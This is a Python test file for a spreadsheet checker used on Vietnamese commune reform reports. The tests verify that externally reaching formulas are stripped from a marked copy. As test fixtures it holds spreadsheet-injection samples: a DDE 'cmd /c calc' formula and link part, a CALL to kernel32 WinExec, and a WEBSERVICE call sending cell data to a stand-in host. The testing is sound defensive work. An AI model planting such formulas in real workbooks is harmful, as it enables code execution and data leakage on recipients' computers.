"""The marked copy of `check -o` is opened by the officer: nothing in it may reach outside the workbook.
A commune's hand-made file is given formulas that read another file ([1]Sheet1!A1 and its externalLink
part), ask another program (DDE, RTD, CALL) or fetch from the web (WEBSERVICE, FILTERXML, HYPERLINK),
with the values the sender's Excel stored for them, and a defined name reaching another file; the copy
keeps each stored value as a plain value and says so on the cell, and keeps the workbook's own formulas."""

from __future__ import annotations

import html
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from cchc_xl.cli import main
from cchc_xl.writing.marked import COPY_TITLES, OUTSIDE_FORMULA, RESULT_SHEET
from cchc_xl.writing.outside_links import reaches_outside
from handmade import seed_rows, write_form
from hostile import repacked

TITLE = ("PHỤ LỤC", "BÁO CÁO CÔNG TÁC CẢI CÁCH HÀNH CHÍNH QUÝ I NĂM 2024",
         "(Kèm theo Báo cáo số 25/BC-UBND ngày 14/3/2024 của UBND xã Bình Yên)")
LINK_SHEET = "Liên kết"
# (formula, value the sender's Excel stored for it): each reaches outside the workbook.
OUTSIDE = [("=cmd|'/c calc'!A1", 42), ("=[1]Sheet1!A1", 7), ("='[1]Số liệu'!B2+1", 8),
           ('=WEBSERVICE("http://x.example/?q="&A1)', "trả lời"), ('=_xlfn.FILTERXML(A4,"//a")', "x"),
           ('=HYPERLINK("http://x.example/","bấm")', "bấm"), ('=RTD("prog.id",,"a")', 3),
           ('=CALL("kernel32","WinExec","JCJ","calc",0)', 0), ("=Ngoai*2", 14), ("=[2]!'x'", None)]
# The workbook's own formulas: they stay.
INSIDE = ["=SUM(B1:B3)", '="a|b"&"[1]x!"', '=IF(B1>0,"webservice(","")']


@pytest.mark.parametrize("formula", [formula for formula, _ in OUTSIDE if formula != "=Ngoai*2"]
                         + ["=A1+DDE|x!y", "=sum([nguon.xlsx]Sheet1!A1)", "=_xlfn.IMAGE(\"http://x/a.png\")",
                            "=REGISTER.ID(\"a\",\"b\")", "='C:\\tmp\\[nguon.xlsx]Sheet1'!A1"])
def test_a_formula_reaching_outside_is_known(formula):
    assert reaches_outside(formula)


@pytest.mark.parametrize("formula", INSIDE + ["=Bang1[Cột]", "=SUM(Bang1[[#This Row],[Cột 1]])", "=Sheet2!A1*2",
                                               "='Phụ lục'!D12", "=HYPERLINKS(1)", "=MYCALL(1)"])
def test_a_formula_of_the_workbook_itself_is_not(formula):
    assert not reaches_outside(formula)


def test_a_formula_using_a_name_that_reaches_outside_is_known():
    assert reaches_outside("=Ngoai*2", frozenset({"NGOAI"}))
    assert not reaches_outside("=NgoaiKhac*2", frozenset({"NGOAI"}))


def linked_workbook(folder: Path) -> Path:
    """A commune's form with a sheet of OUTSIDE and INSIDE formulas, their stored values and the
    externalLink parts Excel writes for a linked workbook and a DDE link."""
    path = write_form(folder / "xa_lien_ket", seed_rows("004"), title_lines=TITLE)
    book = load_workbook(path)
    sheet = book.create_sheet(LINK_SHEET)
    for row, (formula, _) in enumerate(OUTSIDE, 1):
        sheet.cell(row, 1).value = formula
    for row, formula in enumerate(INSIDE, 1):
        sheet.cell(row, 3).value = formula
    for row in range(1, 4):
        sheet.cell(row, 2).value = row
    book.defined_names["Ngoai"] = DefinedName("Ngoai", attr_text="[1]Sheet1!$A$1")
    sheet.add_data_validation(DataValidation(type="list", formula1="[1]Sheet1!$A$1:$A$5", sqref="D1:D3"))
    sheet.add_data_validation(DataValidation(type="list", formula1='"có,không"', sqref="E1:E3"))
    sheet.conditional_formatting.add("B1:B3", FormulaRule(formula=["[1]Sheet1!$A$1>0"], fill=PatternFill("solid", "FF0000")))
    sheet.conditional_formatting.add("C1:C3", FormulaRule(formula=["$B1>1"], fill=PatternFill("solid", "00FF00")))
    book.save(path)
    main_ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel_ns = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

    def rewrite(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet2.xml":
            text = data.decode()
            for row, (_, value) in enumerate(OUTSIDE, 1):
                kind = ' t="str"' if isinstance(value, str) else ""
                stored = "" if value is None else f"<v>{value}</v>"
                text = re.sub(rf'(<c r="A{row}"[^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?',
                              lambda m, kind=kind, stored=stored: f"{m.group(1)}{kind}><f>{m.group(2)}</f>{stored}",
                              text, count=1)
            return text.encode()
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b"".join(
                b'<Override PartName="/xl/externalLinks/externalLink%d.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>' % n for n in (1, 2)) + b"</Types>")
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b"".join(
                b'<Relationship Id="rIdLink%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/externalLink" Target="externalLinks/externalLink%d.xml"/>' % (n, n) for n in (1, 2))
                + b"</Relationships>")
        if name == "xl/workbook.xml":
            return data.replace(b"</sheets>", b"</sheets><externalReferences>" + b"".join(
                b'<externalReference %s r:id="rIdLink%d"/>' % (rel_ns, n) for n in (1, 2)) + b"</externalReferences>")
        return data

    extra = {
        "xl/externalLinks/externalLink1.xml": b'<externalLink %s %s><externalBook r:id="rId1"><sheetNames>'
                                              b'<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
                                              % (main_ns, rel_ns),
        "xl/externalLinks/_rels/externalLink1.xml.rels":
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            b'Target="file:///C:/tmp/nguon.xlsx" TargetMode="External"/></Relationships>',
        "xl/externalLinks/externalLink2.xml": b'<externalLink %s><ddeLink ddeService="cmd" ddeTopic="/c calc">'
                                              b'<ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink>'
                                              b'</externalLink>' % main_ns,
    }
    return repacked(path, folder / "xa_lien_ket_ngoai.xlsx", rewrite, extra)


@pytest.fixture
def marked(tmp_path, capsys) -> tuple[Path, Path, int]:
    """(source, marked copy, exit code of the check that wrote it); the code of the plain check is the same."""
    source = linked_workbook(tmp_path)
    before = source.read_bytes()
    plain = main(["check", str(source)])
    code = main(["check", str(source), "-o", str(tmp_path / "danh-dau.xlsx")])
    capsys.readouterr()
    assert source.read_bytes() == before and code == plain
    return source, tmp_path / "danh-dau.xlsx", code


def test_the_hostile_source_holds_what_the_copy_must_not(tmp_path):
    with zipfile.ZipFile(linked_workbook(tmp_path)) as package:
        names = package.namelist()
        workbook = package.read("xl/workbook.xml")
        links = package.read("xl/worksheets/sheet2.xml").decode()
    assert {"xl/externalLinks/externalLink1.xml", "xl/externalLinks/externalLink2.xml"} <= set(names)
    assert workbook.count(b"<externalReference ") == 2 and b"[1]Sheet1!$A$1" in workbook
    cells = re.findall(r'<c r="A\d+"[^>]*><f>(.*?)</f>(?:<v>(.*?)</v>)?', links)
    assert [(html.unescape(formula), value) for formula, value in cells] == [
        (formula[1:], "" if value is None else str(value)) for formula, value in OUTSIDE]


def test_the_marked_copy_keeps_no_link_to_other_files_or_programs(marked):
    _, copy, _ = marked
    with zipfile.ZipFile(copy) as package:
        names = package.namelist()
        workbook = package.read("xl/workbook.xml")
        formulas = [f.decode() for part in names if part.startswith("xl/worksheets/")
                    for f in re.findall(rb"<f[^>]*>(.*?)</f>", package.read(part))]
    assert not [name for name in names if "externalLink" in name]
    assert b"externalReference" not in workbook and b"Ngoai" not in workbook
    assert not [f for f in formulas if reaches_outside("=" + html.unescape(f))]


def test_the_marked_copy_keeps_the_stored_values_and_the_own_formulas(marked):
    _, copy, _ = marked
    sheet = load_workbook(copy)[LINK_SHEET]
    assert [sheet.cell(row, 1).value for row in range(1, len(OUTSIDE) + 1)] == [v for _, v in OUTSIDE]
    assert all(sheet.cell(row, 1).data_type != "f" for row in range(1, len(OUTSIDE) + 1))
    assert [sheet.cell(row, 3).value for row in range(1, len(INSIDE) + 1)] == INSIDE
    assert [(str(rule.sqref), rule.formula1) for rule in sheet.data_validations.dataValidation] == [("E1:E3", '"có,không"')]
    assert [(str(cf.sqref), [rule.formula for rule in cf.rules]) for cf in sheet.conditional_formatting] == [
        ("C1:C3", [["$B1>1"]])]


def test_each_cut_formula_is_named_on_its_cell_and_in_the_results(marked):
    _, copy, _ = marked
    book = load_workbook(copy)
    sheet = book[LINK_SHEET]
    for row, (formula, value) in enumerate(OUTSIDE, 1):
        note = sheet.cell(row, 1).comment.text
        assert f"Ô A{row} (trang «{LINK_SHEET}»)" in note and formula in note and "tệp gốc không bị sửa" in note
        assert ("để trống" in note) if value is None else (f"«{value}»" in note)
    assert all(sheet.cell(row, 3).comment is None for row in range(1, len(INSIDE) + 1))
    lines = [[cell.value for cell in row] for row in book[RESULT_SHEET].iter_rows(min_row=2)]
    cut = [line for line in lines if line[5] == COPY_TITLES[OUTSIDE_FORMULA]]
    assert [line[1] for line in cut] == [f"{LINK_SHEET}!A{row}" for row in range(1, len(OUTSIDE) + 1)]
    assert all(line[0] == "cảnh báo" for line in cut)


def test_check_names_each_cell_whose_formula_the_copy_replaced(tmp_path, capsys):
    source = linked_workbook(tmp_path)
    main(["check", str(source), "-o", str(tmp_path / "danh-dau.xlsx")])
    printed = capsys.readouterr().out
    main(["check", str(source), "-o", str(tmp_path / "danh-dau.xlsx"), "--force", "--json"])
    removed = json.loads(capsys.readouterr().out)["files"][0]["marked_removed"]
    cells = [f"{LINK_SHEET}!A{row}" for row in range(1, len(OUTSIDE) + 1)]
    assert [line for line in printed.splitlines() if line.startswith("    - ")] == [
        f"    - {cell}: {COPY_TITLES[OUTSIDE_FORMULA]}" for cell in cells]
    assert [(note["cell"], note["rule"]) for note in removed] == [(cell, OUTSIDE_FORMULA) for cell in cells]
